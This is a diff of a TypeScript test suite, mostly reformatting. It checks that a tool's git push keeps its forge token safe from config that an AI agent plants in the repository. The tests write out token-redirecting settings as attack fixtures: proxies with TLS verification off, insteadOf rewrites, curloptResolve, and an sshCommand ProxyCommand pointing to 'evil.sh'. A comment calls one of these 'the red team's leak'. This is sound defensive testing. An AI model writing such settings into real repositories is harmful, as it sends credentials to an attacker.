@@ -131,7 +131,8 @@ async function setup() {
 
 const env = { FORGE_PAT: TOKEN };
 const tokenIn = (lines: string[]) => lines.filter((a) => a.includes(btoa(`x-access-token:${TOKEN}`)) || a.includes(TOKEN));
-const pushMain = (root: string, forge: Parameters<typeof forgePush>[0]["forge"]) => forgePush({ repo: root, forge, env, head: git(root, "rev-parse", "main"), branch: "main" });
+const pushMain = (root: string, forge: Parameters<typeof forgePush>[0]["forge"]) =>
+  forgePush({ repo: root, forge, env, head: git(root, "rev-parse", "main"), branch: "main" });
 
 describe("loop's own push to the forge", () => {
   test("authenticates with the token through its own credential helper; the token is in no URL and no .git/config", async () => {
@@ -162,13 +163,21 @@ describe("loop's own push to the forge", () => {
   test("the forge's https URL of repo by default; gitUrl when loop.json gives one", () => {
     expect(forgeGitUrl({ provider: "github", apiUrl: "https://api.github.com", repo: "acme/api" })).toBe("https://github.com/acme/api.git");
     expect(forgeGitUrl({ provider: "gitlab", apiUrl: "https://git.example.org/api/v4", repo: "g/s/p" })).toBe("https://git.example.org/g/s/p.git");
-    expect(forgeGitUrl({ provider: "github", apiUrl: "https://api.github.com", repo: "acme/api", gitUrl: "git@github.com:acme/api.git" })).toBe("git@github.com:acme/api.git");
+    expect(forgeGitUrl({ provider: "github", apiUrl: "https://api.github.com", repo: "acme/api", gitUrl: "git@github.com:acme/api.git" })).toBe(
+      "git@github.com:acme/api.git",
+    );
   });
 
   // The red team's leak, and each key like it: written by the agent into the repository's config,
   // each would send loop's push (and its token) somewhere else, or let something else answer for the forge.
   const leaks: { name: string; config: (o: { srv: string; evil: string; port: number }) => [string, string][] }[] = [
-    { name: "http.proxy with http.<url>.sslVerify=false", config: ({ srv, evil }) => [["http.proxy", evil], [`http.${srv}/.sslVerify`, "false"]] },
+    {
+      name: "http.proxy with http.<url>.sslVerify=false",
+      config: ({ srv, evil }) => [
+        ["http.proxy", evil],
+        [`http.${srv}/.sslVerify`, "false"],
+      ],
+    },
     { name: "remote.<remote>.proxy", config: ({ evil }) => [["remote.origin.proxy", evil]] },
     { name: "http.<url>.proxy", config: ({ srv, evil }) => [[`http.${srv}/.proxy`, evil]] },
     { name: "url.<x>.insteadOf", config: ({ srv, evil }) => [[`url.${evil}/.insteadOf`, `${srv}/`]] },
@@ -193,7 +202,14 @@ describe("loop's own push to the forge", () => {
     const { dir, root, bare, srv } = await setup();
     // The forge by name (localhost), and the agent's listener on another loopback address, same port.
     const evil = await evilListener(dir, "127.0.0.2", srv.port);
-    const forge = { provider: "github" as const, repo: "acme/api", apiUrl: `http://localhost:${srv.port}`, remote: "origin", tokenEnv: "FORGE_PAT", gitUrl: `http://localhost:${srv.port}/acme/api.git` };
+    const forge = {
+      provider: "github" as const,
+      repo: "acme/api",
+      apiUrl: `http://localhost:${srv.port}`,
+      remote: "origin",
+      tokenEnv: "FORGE_PAT",
+      gitUrl: `http://localhost:${srv.port}/acme/api.git`,
+    };
     git(root, "remote", "set-url", "origin", forge.gitUrl);
     git(root, "config", "http.curloptResolve", `localhost:${srv.port}:127.0.0.2`);
     const r = pushMain(root, forge);
@@ -214,7 +230,14 @@ describe("loop's own push to the forge", () => {
     delete process.env.GIT_SSH_COMMAND;
     delete process.env.GIT_SSH;
     try {
-      const forge = { provider: "github" as const, repo: "acme/api", apiUrl: "https://api.github.com", remote: "origin", tokenEnv: "FORGE_PAT", gitUrl: "ssh://git@127.0.0.1:1/acme/api.git" };
+      const forge = {
+        provider: "github" as const,
+        repo: "acme/api",
+        apiUrl: "https://api.github.com",
+        remote: "origin",
+        tokenEnv: "FORGE_PAT",
+        gitUrl: "ssh://git@127.0.0.1:1/acme/api.git",
+      };
       git(root, "remote", "set-url", "origin", forge.gitUrl);
       git(root, "config", "core.sshCommand", `ssh -o ProxyCommand=${join(dir, "evil.sh")}`);
       const r = pushMain(root, forge);
@@ -224,8 +247,9 @@ describe("loop's own push to the forge", () => {
       expect(argv).toContain("ProxyCommand=none");
       expect(argv.join(" ")).not.toContain("evil.sh");
     } finally {
-      for (const [k, v] of Object.entries(saved)) if (v === undefined) delete process.env[k];
-      else process.env[k] = v;
+      for (const [k, v] of Object.entries(saved))
+        if (v === undefined) delete process.env[k];
+        else process.env[k] = v;
     }
   });
 
